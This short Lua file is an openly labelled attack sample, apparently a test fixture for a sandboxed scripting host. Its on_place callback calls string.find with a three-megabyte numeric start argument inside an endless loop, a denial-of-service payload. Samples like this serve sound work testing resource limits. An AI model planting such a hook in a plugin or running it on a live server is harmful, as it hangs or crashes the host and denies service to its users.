-- Attack: string.find with its start as a three-megabyte numeral, in an endless loop.
return {
  on_place = function(ctx)
    local s = string.rep("0", 3000000) .. "1" while true do ("x"):find("x", s) end
  end,
}
